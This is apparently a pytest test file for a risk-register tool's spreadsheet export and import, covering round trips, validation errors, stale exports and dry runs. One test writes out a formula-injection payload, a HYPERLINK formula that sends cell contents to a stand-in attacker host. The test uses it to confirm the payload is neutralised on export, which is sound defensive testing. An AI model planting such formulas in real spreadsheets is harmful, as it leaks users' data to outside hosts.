"""The spreadsheet round trip: export, edit in a spreadsheet, import; byte-stable when unedited."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from riskreg.errors import ExitCode
from riskreg.register.residual import residual_gate
from riskreg.register.systems import system_paths
from riskreg.register.xlsx_export import export_xlsx
from riskreg.register.xlsx_import import (
    apply_import,
    import_record,
    import_workbook,
    plan_xlsx_import,
)
from riskreg.register.xlsx_layout import RISK_COLUMNS, SYSTEM_COLUMNS, header_index
from riskreg.register.xlsx_read import SpreadsheetError

from .conftest import folder_state
from .systems_data import EXAMPLE_ASSURANCES, TODAY, copy_register, load_all

CONTROLS = {"mit1163.m2": ["NET-001", "NET-002"], "mit1166.m1": ["GATE-001"]}
RISK_COL = header_index(RISK_COLUMNS)
SYSTEM_COL = header_index(SYSTEM_COLUMNS)


def export(folder: Path, path: Path) -> Path:
    register, criteria, systems = load_all(folder)
    path.write_bytes(export_xlsx(register, systems, criteria, CONTROLS, EXAMPLE_ASSURANCES))
    return path


def edit(source: Path, target: Path, changes: dict[tuple[str, ...], dict[str, Any]]) -> Path:
    """Set cells by row key ((system,) on Systems, (system, risk) on Risks) and column header."""
    book = openpyxl.load_workbook(source)
    for key, cells in changes.items():
        sheet, columns = (
            (book["Risks"], RISK_COL) if len(key) == 2 else (book["Systems"], SYSTEM_COL)
        )
        row = next(
            r for r in sheet.iter_rows(min_row=2) if tuple(c.value for c in r[: len(key)]) == key
        )
        for header, value in cells.items():
            row[columns[header] - 1].value = value
    book.save(target)
    return target


def plan(folder: Path, path: Path) -> Any:
    register, criteria, systems = load_all(folder)
    return plan_xlsx_import(path, register, systems, criteria)


def test_round_trip_changes_owner_and_likelihood_and_residual(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    exported = export(folder, tmp_path / "register.xlsx")
    before = residual_gate(load_all(folder)[2], EXAMPLE_ASSURANCES, load_all(folder)[1], TODAY)
    key = ("coding-agent", "mit1163")
    edited = edit(
        exported,
        tmp_path / "edited.xlsx",
        {key: {"owner": "mara@example.com", "likelihood": "unlikely"}},
    )
    result = plan(folder, edited)
    assert [(e.cell, e.field, e.old, e.new) for e in result.edits] == [
        ("E6", "owner", "team-developer-productivity", "mara@example.com"),
        ("F6", "assessment.likelihood", "likely", "unlikely"),
    ]
    assert list(result.contents) == ["systems/coding-agent.yaml"]
    untouched = {p.name: p.read_bytes() for p in system_paths(folder) if p.stem != "coding-agent"}
    assert [p.name for p in apply_import(folder, result)] == ["coding-agent.yaml"]
    assert untouched == {
        p.name: p.read_bytes() for p in system_paths(folder) if p.stem != "coding-agent"
    }
    _, criteria, systems = load_all(folder)
    after = residual_gate(systems, EXAMPLE_ASSURANCES, criteria, TODAY)
    old = {(p.system, p.risk): p for p in before.positions}[key]
    new = {(p.system, p.risk): p for p in after.positions}[key]
    assert (old.residual.level, new.residual.level) == ("high", "medium")
    assert [(p.system, p.risk) for p in after.breaches] == [("coding-agent", "mit1158")]
    coding = next(s for s in systems if s.system.id == "coding-agent").entry("mit1163")
    assert coding is not None and coding.owner == "mara@example.com"
    record = import_record(result, "ana", dt.datetime(2026, 11, 28, tzinfo=dt.UTC))
    assert record.sha256 == result.sha256 and len(record.edits) == 2
    again = plan(folder, edited)
    assert (again.edits, again.contents) == ([], {})


def test_reimporting_an_unedited_export_changes_nothing(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    exported = export(folder, tmp_path / "register.xlsx")
    resaved = edit(exported, tmp_path / "resaved.xlsx", {})  # opened and saved by a spreadsheet
    state = folder_state(folder)
    for path in (exported, resaved):
        result = plan(folder, path)
        assert (result.edits, result.contents) == ([], {})
        assert apply_import(folder, result) == []
    assert folder_state(folder) == state


def test_sheets_validation_lists_and_read_only_keys(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(export(copy_register(tmp_path), tmp_path / "r.xlsx"))
    assert book.sheetnames == ["Systems", "Risks", "Mitigations", "Lists", "About"]
    assert book["Lists"].sheet_state == "hidden"
    ranges = {str(v.sqref)[0]: v.formula1 for v in book["Risks"].data_validations.dataValidation}
    letter = openpyxl.utils.get_column_letter
    assert ranges[letter(RISK_COL["likelihood"])] == "Lists!$F$2:$F$6"
    assert {letter(RISK_COL[h]) for h in ("likelihood", "impact", "treatment")} <= set(ranges)
    systems = {str(v.sqref)[0] for v in book["Systems"].data_validations.dataValidation}
    assert {
        letter(SYSTEM_COL[h]) for h in ("lifecycle", "role", "eu_ai_act", "appetite")
    } <= systems
    rows = list(book["Risks"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 7
    public = next(r for r in rows if r[:2] == ("public-chat-api", "mit1166"))
    assert public[RISK_COL["inherent"] - 1] == "high" and public[RISK_COL["residual"] - 1] == "high"
    assert public[RISK_COL["expires"] - 1] == dt.datetime(2027, 8, 19)
    mitigations = list(book["Mitigations"].iter_rows(min_row=2, values_only=True))
    assert mitigations[4][:3] == ("mit1163", "mit1163.m2", "source")
    assert mitigations[4][4] == "NET-001, NET-002"


def test_formula_text_is_neutralised_on_export_and_restored_on_import(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    path = folder / "systems" / "coding-agent.yaml"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    path.write_text(
        path.read_text(encoding="utf-8").replace(
            "owner: team-developer-productivity\n", f"owner: '{hostile}'\n", 1
        ),
        encoding="utf-8",
    )
    exported = export(folder, tmp_path / "register.xlsx")
    sheet = openpyxl.load_workbook(exported)["Systems"]
    cell = sheet.cell(row=3, column=SYSTEM_COL["owner"])
    assert (cell.value, cell.data_type) == (f"'{hostile}", "s")
    result = plan(folder, exported)
    assert (result.edits, result.contents) == ([], {})
    for text in ("+1", "-x", "@SUM(A1)", "'quoted"):
        changed = edit(exported, tmp_path / "t.xlsx", {("coding-agent",): {"owner": f"'{text}"}})
        [one] = plan(folder, changed).edits
        assert one.new == text


@pytest.mark.parametrize(
    ("changes", "where", "reason"),
    [
        (
            {("coding-agent", "mit1163"): {"likelihood": "frequent"}},
            "Risks!F6",
            "'frequent' is not one of rare",
        ),
        ({("coding-agent", "mit1163"): {"next_review": "soon"}}, "Risks!M6", "expected a date"),
        ({("coding-agent", "mit1163"): {"owner": "=1+1"}}, "Risks!E6", "formula"),
        ({("coding-agent", "mit1163"): {"treatment": "accept"}}, "Risks!Q6", "approver: required"),
        (
            {("coding-agent", "mit1163"): {"mitigations": "mit1163.m1, mit1163.m9"}},
            "Risks!O6",
            "has no mit1163.m9",
        ),
        (
            {("coding-agent", "mit1163"): {"treatment": "ignore"}},
            "Risks!N6",
            "treatment: Input should be",
        ),
        (
            {("coding-agent", "mit1163"): {"risk": "mit1166"}},
            "Risks!B6",
            "not in the scope of coding-agent",
        ),
        ({("coding-agent", "mit1163"): {"system": "nobody"}}, "Risks!A6", "no system 'nobody'"),
        (
            {("coding-agent", "mit1163"): {"system": "coding-agent", "risk": "mit1158"}},
            "Risks!A6",
            "repeats",
        ),
        (
            {("coding-agent",): {"lifecycle": "production"}},
            "Systems!E3",
            "lifecycle: Input should be",
        ),
        ({("coding-agent",): {"appetite": "none"}}, "Systems!J3", "appetite: not one of low"),
        ({("coding-agent",): {"deployments": "coding-agent"}}, "Systems!K3", "deployments"),
        ({("coding-agent",): {"eu_ai_act": "high-risk"}}, "Systems!H3", "annex_iii_area: required"),
        ({("coding-agent",): {"name": None}}, "Systems!B3", "name: Field required"),
    ],
)
def test_bad_cells_name_sheet_cell_and_reason_and_nothing_is_written(
    tmp_path: Path, changes: dict[tuple[str, ...], dict[str, Any]], where: str, reason: str
) -> None:
    folder = copy_register(tmp_path)
    edited = edit(export(folder, tmp_path / "r.xlsx"), tmp_path / "bad.xlsx", changes)
    state = folder_state(folder)
    with pytest.raises(SpreadsheetError) as caught:
        plan(folder, edited)
    assert caught.value.exit_code is ExitCode.INVALID_INPUT
    first = caught.value.problems[0]
    assert first.startswith(f"{where}: ") and reason in first, caught.value.problems
    assert "bad.xlsx" in caught.value.message and caught.value.hint == "nothing was written"
    assert folder_state(folder) == state


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    changes = {
        ("coding-agent", "mit1163"): {"likelihood": "frequent"},
        ("coding-agent", "mit1158"): {"assessed": "yesterday"},
        ("browsing-agent",): {"role": "user"},
    }
    edited = edit(export(folder, tmp_path / "r.xlsx"), tmp_path / "bad.xlsx", changes)
    with pytest.raises(SpreadsheetError) as caught:
        plan(folder, edited)
    assert [p.split(":")[0] for p in caught.value.problems] == [
        "Systems!F2",
        "Risks!L5",
        "Risks!F6",
    ]


def test_export_from_before_a_register_change_is_refused(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    exported = export(folder, tmp_path / "r.xlsx")
    path = folder / "systems" / "coding-agent.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("scope:\n", "scope:\n  include:\n  - mit1166\n"), encoding="utf-8")
    edited = edit(exported, tmp_path / "e.xlsx", {("coding-agent", "mit1163"): {"owner": "x"}})
    with pytest.raises(
        SpreadsheetError, match="About!B5: coding-agent changed in the register since"
    ):
        plan(folder, edited)
    other = edit(exported, tmp_path / "o.xlsx", {("browsing-agent", "mit1163"): {"owner": "x"}})
    assert [e.system for e in plan(folder, other).edits] == ["browsing-agent"]


def test_structure_problems(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    exported = export(folder, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(exported)
    book["Risks"].cell(row=1, column=RISK_COL["likelihood"], value="likelyhood")
    book["About"]["B2"] = "something else"
    book.save(tmp_path / "s.xlsx")
    with pytest.raises(SpreadsheetError) as caught:
        plan(folder, tmp_path / "s.xlsx")
    assert caught.value.problems == [
        "Risks!F1: unknown column 'likelyhood'",
        "Risks!1:1: column 'likelihood' missing",
        "About!B2: format: not a riskreg register export (riskreg-register-xlsx/1)",
    ]
    (tmp_path / "n.xlsx").write_bytes(b"not a zip")
    with pytest.raises(SpreadsheetError, match="not a readable xlsx"):
        plan(folder, tmp_path / "n.xlsx")


def test_decisions_and_clearing_a_row(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    accept = {
        "treatment": "accept",
        "approver": "ciso@example.com",
        "approved": dt.datetime(2026, 11, 28),
        "expires": "2027-02-28",
        "rationale": "'=compensating control until the sandbox migration",
    }
    cleared = dict.fromkeys(
        (
            "owner",
            "likelihood",
            "impact",
            "assessor",
            "assessed",
            "next_review",
            "treatment",
            "mitigations",
        ),
    )
    edited = edit(
        export(folder, tmp_path / "r.xlsx"),
        tmp_path / "e.xlsx",
        {("coding-agent", "mit1163"): accept, ("coding-agent", "mit1158"): cleared},
    )
    apply_import(folder, plan(folder, edited))
    _, criteria, systems = load_all(folder)
    coding = next(s for s in systems if s.system.id == "coding-agent")
    assert coding.entry("mit1158") is None
    entry = coding.entry("mit1163")
    assert entry is not None and entry.treatment is not None
    assert entry.treatment.expires == dt.date(2027, 2, 28)
    assert entry.treatment.rationale == "=compensating control until the sandbox migration"
    assert residual_gate(systems, EXAMPLE_ASSURANCES, criteria, TODAY).passed


def test_register_without_systems_exports_and_imports_the_implicit_system(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    for path in system_paths(folder):
        path.unlink()
    exported = export(folder, tmp_path / "r.xlsx")
    assert plan(folder, exported).edits == []
    edited = edit(exported, tmp_path / "e.xlsx", {("all", "mit1163"): {"owner": "ana"}})
    written = apply_import(folder, plan(folder, edited))
    assert [p.name for p in written] == ["all.yaml"]
    [implicit] = load_all(folder)[2]
    assert implicit.scope.every_risk and implicit.entry("mit1163") is not None


def test_import_workbook_dry_run_writes_nothing(tmp_path: Path) -> None:
    folder = copy_register(tmp_path)
    edited = edit(
        export(folder, tmp_path / "r.xlsx"),
        tmp_path / "e.xlsx",
        {("public-chat-api",): {"owner": "ops"}},
    )
    state = folder_state(folder)
    dry, written = import_workbook(folder, edited, dry_run=True)
    assert [str(e) for e in dry.edits] == [
        "Systems!D4: public-chat-api: system.owner: 'team-platform-api' -> 'ops'"
    ]
    assert written == [] and folder_state(folder) == state
    real, written = import_workbook(folder, edited)
    assert real.edits == dry.edits and [p.name for p in written] == ["public-chat-api.yaml"]
